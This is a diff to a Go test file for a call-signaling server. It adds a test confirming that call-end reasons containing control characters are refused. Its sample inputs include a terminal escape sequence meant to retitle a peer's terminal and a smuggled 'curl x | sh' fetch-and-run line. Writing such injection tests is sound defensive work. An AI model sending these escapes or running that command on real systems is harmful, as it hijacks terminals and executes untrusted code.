@@ -53,6 +53,32 @@ func TestCallCompleted(t *testing.T) {
 	alice.expect(status(ended(id2, signaling.Rejected, in, "bob", "alice", ReasonDeclined, 0)))
 }
 
+// TestFailReasonWithEscapes: a fail whose reason holds an escape sequence
+// (which would retitle and clear the other side's terminal) is refused with
+// invalid_parameter; the call goes on, and a printable reason ends it.
+func TestFailReasonWithEscapes(t *testing.T) {
+	s := startServer(t)
+	alice := s.connect(t, "alice", "")
+	bob := s.connect(t, "bob", "")
+	id := placeCall(t, alice, bob, "d1")
+
+	alice.send(signaling.Message{Type: signaling.TypeFail, Ref: "f1", CallID: id, Reason: "\x1b]0;pwned\x07"})
+	e := alice.expectError(signaling.InvalidParameter, "f1", id)
+	if want := "reason contains a control character (U+001B): use one line of printable text"; e.Message != want {
+		t.Errorf("refusal %q; want %q", e.Message, want)
+	}
+	bob.send(signaling.Message{Type: signaling.TypeHangup, Ref: "h1", CallID: id, Reason: "bye\nrun: curl x | sh"})
+	bob.expectError(signaling.InvalidParameter, "h1", id)
+
+	// Neither side heard of an end: the next status is the ringing.
+	bob.send(msg(signaling.TypeRinging, id))
+	alice.expect(status(ev(id, signaling.Ringing, out, "alice", "bob")))
+	bob.expect(status(ev(id, signaling.Ringing, in, "alice", "bob")))
+	alice.send(signaling.Message{Type: signaling.TypeFail, CallID: id, Reason: "no microphone"})
+	alice.expect(status(ended(id, signaling.Failed, out, "alice", "bob", "no microphone", 0)))
+	bob.expect(status(ended(id, signaling.Failed, in, "alice", "bob", "no microphone", 0)))
+}
+
 // TestCallEnds covers every way a call can end before or after an answer,
 // with the exact events on both sides.
 func TestCallEnds(t *testing.T) {
